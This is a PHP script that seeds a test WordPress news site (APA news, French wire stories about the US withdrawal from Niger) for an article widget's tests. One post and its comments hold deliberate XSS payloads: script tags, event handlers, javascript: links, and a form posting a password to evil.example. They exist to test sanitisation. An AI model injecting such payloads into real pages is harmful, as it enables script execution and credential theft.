<?php
/*
 * Seeds a freshly installed test WordPress (scripts/wordpress.sh start) with
 * what the widget's WordPress tests read: the seed article (the French wire
 * story of static/articles/niger-us-withdrawal.json, as its WordPress site
 * publishes it), its comment thread, a post with comments closed, a hostile
 * post, an English post with every kind of block, and stories from the demo
 * feed (static/feeds/related.json) for related posts. Writes what it created
 * (ids, slugs, links, users) to RUN/seed.json for the tests.
 *
 *   AW_WP_RUN=… AW_WP_URL=… AW_WP_ADMIN_PASSWORD=… php seed.php [--plugin]
 */
require __DIR__ . '/bootstrap.php';

$repo = dirname(__DIR__, 2);
$run = getenv('AW_WP_RUN');
$with_plugin = in_array('--plugin', $argv, true);

function aw_seed_json(string $path): array {
    $data = json_decode(file_get_contents($path), true);
    if (!is_array($data)) {
        throw new RuntimeException("cannot read $path");
    }
    return $data;
}

function aw_seed_check($result, string $what) {
    if (is_wp_error($result) || !$result) {
        fwrite(STDERR, "seed: $what failed: " . (is_wp_error($result) ? $result->get_error_message() : 'no id') . "\n");
        exit(1);
    }
    return $result;
}

/** "2024-04-19T14:05:00Z" → MySQL UTC datetime. */
function aw_seed_gmt(string $rfc3339): string {
    return gmdate('Y-m-d H:i:s', strtotime($rfc3339));
}

// --- the site ---------------------------------------------------------------

update_option('blogname', 'APA news (test)');
update_option('blogdescription', 'Agence de presse africaine');
update_option('timezone_string', 'Africa/Niamey');
update_option('date_format', 'j F Y');
if (in_array('fr_FR', get_available_languages(), true)) {
    update_option('WPLANG', 'fr_FR');
}
// Comments as a news site runs them: name and email required, a first-time
// commenter held for moderation, threads five deep, no e-mail notifications
// (there is no mail server).
update_option('require_name_email', 1);
update_option('comment_registration', 0);
update_option('comment_moderation', 0);
update_option('comment_previously_approved', 1);
update_option('thread_comments', 1);
update_option('thread_comments_depth', 5);
update_option('page_comments', 0);
update_option('comments_notify', 0);
update_option('moderation_notify', 0);
update_option('default_comment_status', 'open');
switch_theme('twentytwentyone');

global $wp_rewrite;
$wp_rewrite->set_permalink_structure('/%category%/%postname%/');
$wp_rewrite->set_category_base('rubrique');
$wp_rewrite->set_tag_base('sujet');
flush_rewrite_rules(false);

// WordPress's own samples: "Hello world!", its comment, the sample page.
foreach (get_posts(['post_type' => ['post', 'page'], 'post_status' => 'any', 'numberposts' => -1]) as $sample) {
    wp_delete_post($sample->ID, true);
}

$admin = get_user_by('login', 'admin');
$author_id = aw_seed_check(wp_insert_user([
    'user_login' => 'redaction', 'user_pass' => wp_generate_password(24), 'user_email' => 'redaction@apanews.example',
    'display_name' => 'Rédaction APA', 'nickname' => 'Rédaction APA', 'role' => 'author',
]), 'author');
$subscriber_password = wp_generate_password(24, false);
$subscriber_id = aw_seed_check(wp_insert_user([
    'user_login' => 'abonne', 'user_pass' => $subscriber_password, 'user_email' => 'abonne@example.org',
    'display_name' => 'Abonné', 'role' => 'subscriber',
]), 'subscriber');

// --- categories and tags ----------------------------------------------------

$categories = [];
function aw_seed_category(array &$categories, string $name, string $slug, string $parent = ''): int {
    $term = aw_seed_check(wp_insert_term($name, 'category', [
        'slug' => $slug, 'parent' => $parent !== '' ? $categories[$parent] : 0,
    ]), "category $name");
    return $categories[$slug] = (int) $term['term_id'];
}
aw_seed_category($categories, 'Afrique', 'afrique');
aw_seed_category($categories, 'coopération', 'cooperation', 'afrique');
aw_seed_category($categories, 'diplomatie', 'diplomatie', 'afrique');
aw_seed_category($categories, 'Défense & sécurité', 'securite', 'afrique');
aw_seed_category($categories, 'Économie', 'economie');
aw_seed_category($categories, 'énergie', 'energie', 'economie');
aw_seed_category($categories, 'Sport', 'sport');
aw_seed_category($categories, 'Culture', 'culture');
aw_seed_category($categories, 'Société', 'societe');
aw_seed_category($categories, 'environnement', 'environnement', 'societe');
aw_seed_category($categories, 'technologie', 'technologie', 'societe');
wp_update_term(get_option('default_category'), 'category', ['name' => 'Non classé', 'slug' => 'non-classe']);

// The feed's category names → ours.
$feed_categories = [
    'coopération' => 'cooperation', 'diplomatie' => 'diplomatie', 'sécurité' => 'securite', 'économie' => 'economie',
    'énergie' => 'energie', 'sport' => 'sport', 'culture' => 'culture', 'environnement' => 'environnement',
    'technologie' => 'technologie',
];

// Tags by what a story is about: a word of its title or excerpt → a tag.
$tag_rules = [
    'Niger' => '/\bNiger\b|Niamey|nigérien/u', 'Niamey' => '/Niamey/u', 'Mali' => '/\bMali\b/u',
    'Burkina Faso' => '/Burkina/u', 'États-Unis' => '/Etats-Unis|États-Unis|américain|Washington|Pentagone/u',
    'Russie' => '/Russie|russe/u', 'Sahel' => '/Sahel|\bAES\b/u', 'France' => '/France|français|Paris\b/u',
    'coopération militaire' => '/militaire|soldats|armée|drones|défense/u', 'football' => '/football|CAN 2025|Ligue des champions/iu',
    'Côte d’Ivoire' => '/Côte d’Ivoire|Abidjan/u', 'Sénégal' => '/Sénégal|Saint-Louis/u',
];
function aw_seed_tags(array $rules, string $text): array {
    $tags = [];
    foreach ($rules as $tag => $pattern) {
        if (preg_match($pattern, $text)) {
            $tags[] = $tag;
        }
    }
    return $tags;
}

// --- media ------------------------------------------------------------------

/** Copies a file of the repo into the uploads and makes it an attachment of $parent. */
function aw_seed_attachment(string $source, int $parent, string $title, string $alt, string $month = '2024/04'): int {
    $uploads = wp_upload_dir($month);
    wp_mkdir_p($uploads['path']);
    $name = wp_unique_filename($uploads['path'], basename($source));
    copy($source, $uploads['path'] . '/' . $name);
    $file = $uploads['path'] . '/' . $name;
    $type = wp_check_filetype($name, ['svg' => 'image/svg+xml', 'jpg' => 'image/jpeg', 'png' => 'image/png'])['type'];
    $id = aw_seed_check(wp_insert_attachment([
        'post_mime_type' => $type, 'post_title' => $title, 'post_status' => 'inherit',
        'guid' => $uploads['url'] . '/' . $name,
    ], $file, $parent, true), "attachment $name");
    if ($type === 'image/svg+xml') {
        // WordPress measures raster images only; an SVG gets its size from its own width/height.
        $svg = file_get_contents($file);
        preg_match('/\bwidth="(\d+)"/', $svg, $w);
        preg_match('/\bheight="(\d+)"/', $svg, $h);
        wp_update_attachment_metadata($id, [
            'width' => (int) ($w[1] ?? 0), 'height' => (int) ($h[1] ?? 0),
            'file' => _wp_relative_upload_path($file), 'sizes' => [],
        ]);
    } else {
        wp_update_attachment_metadata($id, wp_generate_attachment_metadata($id, $file));
    }
    update_post_meta($id, '_wp_attachment_image_alt', $alt);
    return $id;
}

/**
 * A photo-like JPEG drawn here (the repo's images are SVG, which WordPress
 * does not resize): a real raster attachment, so that the featured image of the
 * seed article carries the thumbnail sizes a real site's has.
 */
function aw_seed_draw_jpeg(string $path): void {
    $w = 1200;
    $h = 675;
    $img = imagecreatetruecolor($w, $h);
    for ($y = 0; $y < $h * 0.62; $y++) { // sky
        $t = $y / ($h * 0.62);
        imageline($img, 0, $y, $w, $y, imagecolorallocate($img, (int) (120 + 100 * $t), (int) (170 + 60 * $t), (int) (225 - 20 * $t)));
    }
    for ($y = (int) ($h * 0.62); $y < $h; $y++) { // sand
        $t = ($y - $h * 0.62) / ($h * 0.38);
        imageline($img, 0, $y, $w, $y, imagecolorallocate($img, (int) (222 - 40 * $t), (int) (184 - 50 * $t), (int) (128 - 40 * $t)));
    }
    imagefilledellipse($img, 980, 140, 110, 110, imagecolorallocate($img, 255, 214, 102)); // sun
    $grey = imagecolorallocate($img, 71, 85, 105);
    imagefilledpolygon($img, [300, 250, 600, 228, 900, 250, 600, 276], $grey); // a drone's wing
    imagefilledrectangle($img, 560, 236, 660, 268, $grey);
    imagefilledpolygon($img, [840, 250, 880, 200, 900, 200, 890, 256], $grey);
    $hangar = imagecolorallocate($img, 148, 163, 184);
    imagefilledrectangle($img, 120, 470, 520, 560, $hangar);
    imagefilledarc($img, 320, 470, 400, 160, 180, 360, $hangar, IMG_ARC_PIE);
    imagejpeg($img, $path, 82);
    imagedestroy($img);
}

// --- content ----------------------------------------------------------------

function aw_seed_paragraph(string $text): string {
    return "<!-- wp:paragraph -->\n<p>" . esc_html($text) . "</p>\n<!-- /wp:paragraph -->";
}

/** The article JSON's body blocks as the block editor saves them. */
function aw_seed_blocks(array $body, string $json_dir, int $post_id): string {
    $out = [];
    foreach ($body as $block) {
        switch ($block['type']) {
            case 'paragraph':
                $out[] = aw_seed_paragraph($block['text']);
                break;
            case 'heading':
                $level = (int) ($block['level'] ?? 2);
                $attrs = $level === 2 ? '' : ' {"level":' . $level . '}';
                $out[] = "<!-- wp:heading$attrs -->\n<h$level>" . esc_html($block['text']) . "</h$level>\n<!-- /wp:heading -->";
                break;
            case 'quote':
                $cite = empty($block['cite']) ? '' : '<cite>' . esc_html($block['cite']) . '</cite>';
                $out[] = "<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\">" . aw_seed_paragraph($block['text']) . "$cite</blockquote>\n<!-- /wp:quote -->";
                break;
            case 'list':
                $tag = empty($block['ordered']) ? 'ul' : 'ol';
                $attrs = $tag === 'ol' ? ' {"ordered":true}' : '';
                $items = array_map(fn ($item) => "<!-- wp:list-item -->\n<li>" . esc_html($item) . "</li>\n<!-- /wp:list-item -->", $block['items']);
                $out[] = "<!-- wp:list$attrs -->\n<$tag>" . implode("\n\n", $items) . "</$tag>\n<!-- /wp:list -->";
                break;
            case 'image':
                $id = aw_seed_attachment(realpath($json_dir . '/' . $block['src']), $post_id, $block['alt'], $block['alt']);
                $caption = trim(($block['caption'] ?? '') . (empty($block['credit']) ? '' : ' ' . $block['credit']));
                $out[] = "<!-- wp:image {\"id\":$id,\"sizeSlug\":\"full\"} -->\n<figure class=\"wp-block-image size-full\"><img src=\""
                    . esc_url(wp_get_attachment_url($id)) . '" alt="' . esc_attr($block['alt']) . "\" class=\"wp-image-$id\"/>"
                    . ($caption === '' ? '' : '<figcaption class="wp-element-caption">' . esc_html($caption) . '</figcaption>')
                    . "</figure>\n<!-- /wp:image -->";
                break;
            default:
                throw new RuntimeException('unknown block type ' . $block['type']);
        }
    }
    return implode("\n\n", $out);
}

function aw_seed_post(array $fields): int {
    $fields += ['post_status' => 'publish', 'post_type' => 'post', 'comment_status' => 'open', 'ping_status' => 'closed'];
    if (isset($fields['post_date_gmt'])) {
        $fields['post_date'] = get_date_from_gmt($fields['post_date_gmt']);
    }
    return aw_seed_check(wp_insert_post(wp_slash($fields), true), 'post ' . $fields['post_title']);
}

function aw_seed_modified(int $id, string $gmt): void {
    global $wpdb;
    $wpdb->update($wpdb->posts, ['post_modified_gmt' => $gmt, 'post_modified' => get_date_from_gmt($gmt)], ['ID' => $id]);
    clean_post_cache($id);
}

/**
 * A comment as WordPress stores one: a reader's goes through the comment
 * filters (KSES on its text, its name escaped), as the form or REST would
 * apply them; an administrator's is stored as written.
 */
function aw_seed_comment(int $post, array $fields, bool $reader = true): int {
    $fields += ['comment_post_ID' => $post, 'comment_approved' => 1, 'comment_author_IP' => '192.0.2.10',
        'comment_agent' => 'seed', 'comment_author_url' => '', 'comment_type' => 'comment', 'comment_parent' => 0, 'user_id' => 0];
    $fields['comment_date'] = get_date_from_gmt($fields['comment_date_gmt']);
    $fields = wp_slash($fields); // as WordPress passes them, and as its filters expect them
    if ($reader) {
        kses_init_filters();
        $fields = wp_filter_comment($fields);
        kses_remove_filters();
    }
    return aw_seed_check(wp_insert_comment($fields), 'comment by ' . $fields['comment_author']);
}

// The post's HTML is stored as written: no KSES, as for an administrator or an import.
kses_remove_filters();
wp_set_current_user($admin->ID);

$seed = [];

// The seed article, as its WordPress site publishes it: the lead is the
// excerpt and again the first paragraph, the signature the last one.
$article = aw_seed_json("$repo/static/articles/niger-us-withdrawal.json");
$id = aw_seed_post([
    'post_title' => $article['title'],
    'post_name' => 'les-etats-unis-acceptent-de-retirer-leurs-militaires-du-niger',
    'post_excerpt' => $article['lead'],
    'post_content' => '',
    'post_date_gmt' => aw_seed_gmt($article['published_at']),
    'post_author' => $author_id,
    'post_category' => [$categories['cooperation']],
    'tags_input' => ['Niger', 'États-Unis', 'Sahel', 'coopération militaire', 'Niamey', 'Russie'],
]);
$content = aw_seed_paragraph($article['lead']) . "\n\n" . aw_seed_blocks($article['body'], "$repo/static/articles", $id)
    . "\n\n" . aw_seed_paragraph($article['signature']);
wp_update_post(wp_slash(['ID' => $id, 'post_content' => $content]));
aw_seed_modified($id, aw_seed_gmt($article['published_at'])); // a wire story, never updated
$uploads = wp_upload_dir('2024/04');
wp_mkdir_p($uploads['path']);
aw_seed_draw_jpeg('/tmp/aw-seed-' . getmypid() . '.jpg');
$photo = aw_seed_attachment('/tmp/aw-seed-' . getmypid() . '.jpg', $id, 'Base de drones d’Agadez',
    'Dessin d’un drone au-dessus d’un hangar dans le désert');
unlink('/tmp/aw-seed-' . getmypid() . '.jpg');
set_post_thumbnail($id, $photo);
update_post_meta($id, 'views', 9); // tagDiv's view counter; not in REST
$seed['article'] = ['id' => $id, 'featured_media' => $photo];

// Its thread: a comment and an approved reply, a comment awaiting moderation,
// a spam, and a later comment with a link and an ampersand in the name.
$c1 = aw_seed_comment($id, [
    'comment_author' => 'Moussa Diallo', 'comment_author_email' => 'moussa.diallo@example.org',
    'comment_content' => 'Enfin une décision claire. Reste à savoir ce que deviendra la base d’Agadez après le départ des Américains.',
    'comment_date_gmt' => '2024-04-19 16:12:00',
]);
$c2 = aw_seed_comment($id, [
    'comment_author' => 'Aïcha Maïga', 'comment_author_email' => 'aicha.maiga@example.org', 'comment_parent' => $c1,
    'comment_content' => 'Selon le communiqué, une délégation américaine doit venir à Niamey pour en fixer les modalités.',
    'comment_date_gmt' => '2024-04-19 17:40:00',
]);
$c3 = aw_seed_comment($id, [
    'comment_author' => 'Lecteur pressé', 'comment_author_email' => 'presse@example.org', 'comment_approved' => 0,
    'comment_content' => 'Ce commentaire attend la modération : il ne doit pas apparaître.',
    'comment_date_gmt' => '2024-04-20 08:00:00',
]);
$c4 = aw_seed_comment($id, [
    'comment_author' => 'Pharmacie en ligne', 'comment_author_email' => 'spam@example.com', 'comment_approved' => 'spam',
    'comment_content' => 'Achetez pas cher http://spam.example/',
    'comment_date_gmt' => '2024-04-20 09:00:00',
]);
$c5 = aw_seed_comment($id, [
    'comment_author' => 'Diallo & Fils', 'comment_author_email' => 'contact@diallo-fils.example', 'comment_author_url' => 'https://diallo-fils.example/',
    'comment_content' => 'Voir aussi <a href="https://www.apanews.example/cooperation/">nos articles sur la coopération</a> & l’analyse de la semaine dernière.',
    'comment_date_gmt' => '2024-04-20 10:30:00',
]);
wp_update_comment_count_now($id);
$seed['comments'] = ['approved' => $c1, 'reply' => $c2, 'pending' => $c3, 'spam' => $c4, 'with_link' => $c5,
    'approved_count' => 3];

// An English post with every kind of block: headings, a quote, a list, an image with a caption.
$minigrids = aw_seed_json("$repo/static/articles/sahel-solar-minigrids.json");
$id = aw_seed_post([
    'post_title' => $minigrids['title'], 'post_name' => 'solar-mini-grids-bring-evening-light-to-sahel-villages',
    'post_excerpt' => $minigrids['lead'], 'post_content' => '', 'post_author' => $author_id,
    'post_date_gmt' => aw_seed_gmt($minigrids['published_at']), 'post_category' => [$categories['energie']],
    'tags_input' => ['Sahel', 'Niger', 'solar'],
]);
wp_update_post(wp_slash(['ID' => $id, 'post_content' => aw_seed_paragraph($minigrids['lead']) . "\n\n"
    . aw_seed_blocks($minigrids['body'], "$repo/static/articles", $id) . "\n\n" . aw_seed_paragraph($minigrids['signature'])]));
aw_seed_modified($id, aw_seed_gmt($minigrids['updated_at']));
$seed['blocks'] = ['id' => $id];

// Comments closed, with one comment from before they were.
$id = aw_seed_post([
    'post_title' => 'Tribune : ce que le départ américain change pour le Sahel',
    'post_name' => 'tribune-ce-que-le-depart-americain-change-pour-le-sahel',
    'post_excerpt' => 'Sans les drones d’Agadez, la surveillance du Sahel central repose désormais sur les armées de la région.',
    'post_content' => aw_seed_paragraph('Sans les drones d’Agadez, la surveillance du Sahel central repose désormais sur les armées de la région.')
        . "\n\n" . aw_seed_paragraph('Les commentaires sont fermés sur les tribunes une semaine après leur publication.'),
    'post_date_gmt' => '2024-04-20 07:30:00', 'post_author' => $author_id, 'post_category' => [$categories['diplomatie']],
    'tags_input' => ['Sahel', 'Niger', 'États-Unis'],
]);
$closed_comment = aw_seed_comment($id, [
    'comment_author' => 'Ibrahim Sow', 'comment_author_email' => 'ibrahim.sow@example.org',
    'comment_content' => 'Une analyse utile, merci.', 'comment_date_gmt' => '2024-04-20 12:00:00',
]);
wp_update_post(['ID' => $id, 'comment_status' => 'closed']);
$seed['closed'] = ['id' => $id, 'comment' => $closed_comment];

// Hostile content, as a compromised account or a careless import could store it.
$hostile_html = <<<'HTML'
<!-- wp:paragraph -->
<p>Début du texte.<script>window.__awHostile = 'script'; document.title = 'pwned';</script> Suite du texte.</p>
<!-- /wp:paragraph -->

<p><img src="/nonexistent.png" onerror="window.__awHostile = 'onerror'" alt="image piégée"></p>

<p><a href="javascript:window.__awHostile='javascript-link'">lien piégé</a>, <a href="JaVaScRiPt&#58;window.__awHostile='encoded'">lien encodé</a>, <a href=" javascript:window.__awHostile='spaced'">lien espacé</a> et <a href="https://www.apanews.example/" onclick="window.__awHostile='onclick'">un lien sûr</a>.</p>

<iframe src="https://evil.example/frame" width="300" height="200"></iframe>

<style>body { display: none !important; } .aw-article { visibility: hidden; }</style>

<div onmouseover="window.__awHostile='onmouseover'" style="position:fixed;inset:0;z-index:99999;background:red">Texte dans un calque.</div>

<p>Une image SVG <svg onload="window.__awHostile='svg'"><script>window.__awHostile='svg-script'</script></svg> et un formulaire <form action="https://evil.example/steal"><input name="password" value="x"><button formaction="javascript:alert(1)">ok</button></form>.</p>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">

<p>Du texte qui montre &lt;script&gt;alert(1)&lt;/script&gt; sans rien exécuter.</p>

<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien data</a> <img src="javascript:alert(1)" alt="source piégée"> <img srcset="javascript:alert(1) 1x" alt="srcset piégé"></p>

<!-- wp:html -->
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<!-- /wp:html -->
HTML;
$id = aw_seed_post([
    'post_title' => 'Piège <img src=x onerror="window.__awHostile=\'title\'"> & « guillemets » <script>window.__awHostile=\'title-script\'</script>',
    'post_name' => 'article-piege',
    'post_excerpt' => 'Un résumé <b onclick="window.__awHostile=\'excerpt\'">en gras</b> & <script>window.__awHostile=\'excerpt-script\'</script>fin.',
    'post_content' => $hostile_html,
    'post_date_gmt' => '2024-04-18 10:00:00', 'post_author' => $author_id, 'post_category' => [$categories['securite']],
    'tags_input' => ['Niger'],
]);
$hostile_reader = aw_seed_comment($id, [
    'comment_author' => 'Curieux <b>gras</b>', 'comment_author_email' => 'curieux@example.org',
    'comment_author_url' => 'javascript:alert(1)', 'comment_date_gmt' => '2024-04-18 11:00:00',
    'comment_content' => 'Regardez <a href="javascript:window.__awHostile=\'comment-link\'">ceci</a> <script>window.__awHostile=\'comment-script\'</script><img src=x onerror="window.__awHostile=\'comment-img\'">',
]);
$hostile_admin = aw_seed_comment($id, [
    'comment_author' => 'admin', 'comment_author_email' => 'admin@apanews.example', 'user_id' => $admin->ID,
    'comment_content' => 'Réponse <script>window.__awHostile=\'admin-comment-script\'</script><a href="javascript:window.__awHostile=\'admin-link\'">ici</a>',
    'comment_date_gmt' => '2024-04-18 12:00:00', 'comment_parent' => $hostile_reader,
], false);
$seed['hostile'] = ['id' => $id, 'comments' => [$hostile_reader, $hostile_admin]];

// Stories of the demo feed, for related posts: Sahel security and diplomacy
// close to the seed article, sport, culture and economy far from it.
$feed = aw_seed_json("$repo/static/feeds/related.json")['stories'];
$wanted = [
    'des-milliers-de-manifestants-a-niamey-pour-exiger-le-depart-des-soldats-americains',
    'niger-incertitudes-autour-de-la-base-de-drones-d-agadez',
    'tchad-l-armee-demande-la-suspension-des-activites-des-militaires-americains',
    'retrait-americain-du-niger-une-delegation-du-pentagone-attendue-a-niamey',
    'des-instructeurs-militaires-russes-debarquent-a-niamey',
    'le-niger-denonce-l-accord-de-cooperation-militaire-signe-en-2012-avec-washington',
    'cedeao-un-sommet-extraordinaire-pour-tenter-de-retenir-les-pays-de-l-aes',
    'le-burkina-faso-expulse-trois-diplomates-francais',
    'mali-une-attaque-jihadiste-contre-un-convoi-fait-une-dizaine-de-morts-pres-de-mopti',
    'paris-reflechit-a-reduire-ses-effectifs-militaires-en-afrique-de-l-ouest',
    'can-2025-le-maroc-devoile-les-six-villes-hotes',
    'athletisme-double-kenyan-au-marathon-de-lagos',
    'ligue-des-champions-caf-al-ahly-ramene-un-nul-de-lubumbashi',
    'abidjan-accueille-le-marche-des-arts-du-spectacle-africain',
    'jazz-et-musiques-du-monde-saint-louis-devoile-la-programmation-de-son-festival',
    'cote-d-ivoire-le-prix-du-cacao-bord-champ-releve',
    'canicule-des-temperatures-record-au-mali-et-au-burkina-faso',
    'internet-une-panne-de-cables-sous-marins-ralentit-la-connexion-en-afrique-de-l-ouest',
];
$seed['related'] = [];
foreach ($wanted as $slug) {
    $story = null;
    foreach ($feed as $candidate) {
        if (str_ends_with($candidate['url'], "/$slug")) {
            $story = $candidate;
            break;
        }
    }
    if (!$story || empty($story['published_at']) || !isset($feed_categories[$story['category'] ?? ''])) {
        fwrite(STDERR, "seed: the demo feed has no dated, categorised story $slug\n");
        exit(1);
    }
    $excerpt = $story['excerpt'] ?? '';
    $id = aw_seed_post([
        'post_title' => $story['title'], 'post_name' => $slug, 'post_excerpt' => $excerpt,
        'post_content' => aw_seed_paragraph($excerpt !== '' ? $excerpt : $story['title']),
        'post_date_gmt' => aw_seed_gmt($story['published_at']), 'post_author' => $author_id,
        'post_category' => [$categories[$feed_categories[$story['category']]]],
        'tags_input' => aw_seed_tags($tag_rules, $story['title'] . ' ' . $excerpt),
    ]);
    if (!empty($story['image'])) {
        set_post_thumbnail($id, aw_seed_attachment(realpath("$repo/static/feeds/" . $story['image']), $id, $story['title'], ''));
    }
    $seed['related'][] = $id;
}

// A draft and a private post: never in REST for anonymous readers.
$seed['draft'] = aw_seed_post(['post_title' => 'Brouillon : ne pas publier', 'post_status' => 'draft', 'post_content' => aw_seed_paragraph('Brouillon.')]);
$seed['private'] = aw_seed_post(['post_title' => 'Note interne', 'post_status' => 'private', 'post_content' => aw_seed_paragraph('Privé.')]);

if ($with_plugin) {
    aw_seed_check(activate_plugin('article-widget/article-widget.php') ?? true, 'activating the article-widget plugin');
}

wp_set_current_user(0);
foreach (['article', 'blocks', 'closed', 'hostile'] as $key) {
    $post = get_post($seed[$key]['id']);
    $seed[$key] += ['slug' => $post->post_name, 'link' => get_permalink($post), 'rest' => rest_url('wp/v2/posts/' . $post->ID)];
}
$seed['categories'] = $categories;
$seed['users'] = [
    'admin' => ['id' => $admin->ID, 'login' => 'admin', 'password' => getenv('AW_WP_ADMIN_PASSWORD')],
    'subscriber' => ['id' => $subscriber_id, 'login' => 'abonne', 'password' => $subscriber_password],
    'author' => ['id' => $author_id, 'login' => 'redaction'],
];
$seed['plugin'] = $with_plugin;
file_put_contents("$run/seed.json", json_encode($seed, JSON_PRETTY_PRINT | JSON_UNESCAPED_SLASHES | JSON_UNESCAPED_UNICODE) . "\n");
